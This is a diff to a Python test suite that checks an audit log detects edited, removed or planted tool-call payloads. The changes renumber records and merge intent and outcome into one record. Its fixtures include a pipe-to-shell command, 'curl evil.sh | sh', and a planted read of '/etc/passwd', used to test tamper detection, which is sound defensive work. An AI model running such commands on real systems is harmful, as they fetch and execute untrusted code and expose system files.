@@ -262,13 +262,13 @@ def store_problems(store_at: str | Path) -> list[str]:
     (7, msgpack.packb({"name": "write_file",
                        "args": {"path": "/data/a.txt", "data": "curl evil.sh | sh"}}),
      "its stored arguments payload does not match the hash its record carries: edited"),
-    # fs.read's result, rewritten
-    (13, msgpack.packb("evil"),
+    # fs.read's result (its intent and outcome: one record), rewritten
+    (12, msgpack.packb("evil"),
      "its stored result payload does not match the hash its record carries: edited"),
     # the tool call's result, removed
-    (14, None, "its stored result payload is missing: removed"),
+    (13, None, "its stored result payload is missing: removed"),
     # a payload where the record has none (a denial)
-    (16, msgpack.packb({"path": "/etc/passwd"}),
+    (15, msgpack.packb({"path": "/etc/passwd"}),
      "holds a stored payload that its record does not vouch for: planted"),
 ])
 async def test_an_edited_payload_is_reported_at_its_record(
@@ -422,7 +422,7 @@ async def test_tool_code_cannot_plant_administrative_records(
         assert len(hostile) == 64 and hostile.isascii() and hostile.isprintable()
         # the tool's legitimate syscall, in the same run, is recorded under its own name
         assert [r["phase"] for r in kernel.audit(pid) if r["syscall"] == "clock.now"] == \
-            ["intent", "outcome"]
+            ["intent+outcome"]
         # the broker's own administrative record, beside them
         cap_id = kernel.capabilities(pid)[0]["id"]
         kernel.revoke(cap_id)
